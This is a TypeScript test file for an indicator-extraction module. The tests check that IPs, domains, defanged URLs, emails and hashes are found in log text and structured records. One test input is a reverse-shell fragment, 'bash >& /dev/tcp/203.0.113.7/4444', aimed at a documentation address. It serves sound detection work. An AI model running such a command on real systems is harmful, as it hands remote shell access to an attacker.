import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { mostEntities } from '../../src/normalize/entity-list.ts';
import { observables } from '../../src/normalize/observables.ts';
import { textObservables } from '../../src/normalize/text-observables.ts';

const found = (text: string) => textObservables(text).map((e) => `${e.type}:${e.value}`);

describe('textObservables', () => {
  const cases: [string, string, string[]][] = [
    ['an address with a port', 'to 203.0.113.7:3333.', ['ip:203.0.113.7']],
    ['an address at the end of a bash redirection', 'bash >& /dev/tcp/203.0.113.7/4444', ['ip:203.0.113.7']],
    ['a network', 'from 198.51.100.0/24', ['ip:198.51.100.0']],
    ['an IPv4-mapped address once', '::ffff:203.0.113.7 is 203.0.113.7', ['ip:203.0.113.7']],
    ['an IPv6 address', 'from 2001:db8::7 to', ['ip:2001:db8::7']],
    ['defanged names and addresses', '1 evil[.]example, 203[.]0[.]113[.]7', ['ip:203.0.113.7', 'domain:evil.example']],
    [
      'a defanged URL and its host',
      'hxxp://evil[.]example/a?b=1',
      ['url:http://evil.example/a?b=1', 'domain:evil.example'],
    ],
    [
      'a URL without the bracket and the dot around it',
      '(https://example.org/a).',
      ['url:https://example.org/a', 'domain:example.org'],
    ],
    [
      'a URL with brackets of its own',
      'https://example.org/a_(b)',
      ['url:https://example.org/a_(b)', 'domain:example.org'],
    ],
    [
      'names of inside networks',
      'db1.corp.internal and nas.lan, printer.local',
      ['domain:db1.corp.internal', 'domain:nas.lan', 'domain:printer.local'],
    ],
    [
      'names inside Japanese text',
      '攻撃元は203.0.113.9です、bad.example.orgへ接続',
      ['ip:203.0.113.9', 'domain:bad.example.org'],
    ],
    ['an address of mail without its domain', 'from ken@acme.example', ['email:ken@acme.example']],
    ['a hash', 'D41D8CD98F00B204E9800998ECF8427E', ['file_hash:d41d8cd98f00b204e9800998ecf8427e']],
    ['a short name with the ending of a file when it was defanged', 'get[.]sh', ['domain:get.sh']],
  ];
  it.each(cases)('finds %s', (_, text, expected) => {
    expect(found(text)).toEqual(expected);
  });

  it.each([
    ['files', 'run.sh main.py a.php node.js notes.md archive.zip lib.so'],
    ['versions of programs', 'Chrome/99.0.4844.51 and v1.2.3.4 and 1.2.3.4.5'],
    ['times, addresses of cards and namespaces', '12:30:45 aa:bb:cc:dd:ee:ff std::string'],
    ['loopback', 'http listens on 127.0.0.1 and ::1'],
    ['the path of a URL', '/var/www/html/index.php'],
  ])('does not take %s for entities', (_, text) => {
    expect(found(text)).toEqual([]);
  });

  it('looks at a bounded part of a long text and of a long run', () => {
    expect(found(`${'word '.repeat(20_000)} 203.0.113.7`)).toEqual([]);
    expect(found(`${'x'.repeat(5000)}203.0.113.7 198.51.100.7`)).toEqual(['ip:198.51.100.7']);
  });

  it('never throws', () => {
    fc.assert(fc.property(fc.string({ unit: 'grapheme', maxLength: 400 }), (text) => void textObservables(text)));
  });
});

describe('observables', () => {
  it('reads fields by their names in any spelling, and what is left as text', () => {
    const record = {
      source_ip: '198.51.100.1',
      hostName: 'WEB-01',
      nested: [{ 'user.name': 'Hana', note: '203.0.113.7' }],
    };
    expect(observables(record)).toEqual([
      { type: 'ip', value: '198.51.100.1', role: 'source', from: 'field' },
      { type: 'host', value: 'web-01', role: 'host', from: 'field' },
      { type: 'user', value: 'hana', role: 'user', from: 'field' },
      { type: 'ip', value: '203.0.113.7', role: 'mentioned', from: 'text' },
    ]);
  });

  it('keeps one of a value that is in a field and in text, the one of the field', () => {
    const entities = observables({
      message: 'db1.corp.internal and 198.51.100.1',
      host: 'db1.corp.internal',
      src_ip: '198.51.100.1',
    });
    expect(entities.map((e) => `${e.type} ${e.from}`)).toEqual(['host field', 'ip field']);
  });

  it('takes a sentence in a typed field for prose', () => {
    expect(observables({ user: 'the user of 203.0.113.7' })).toEqual([
      { type: 'ip', value: '203.0.113.7', role: 'mentioned', from: 'text' },
    ]);
  });

  it('stops at a bounded number of entities, the typed ones first', () => {
    const many = Array.from({ length: 300 }, (_, i) => `10.0.${i % 250}.${Math.floor(i / 250) + 1}`);
    const entities = observables({ text: many.join(' '), src_ip: '198.51.100.1' });
    expect(entities).toHaveLength(mostEntities);
    expect(entities[0]?.value).toBe('198.51.100.1');
  });
});
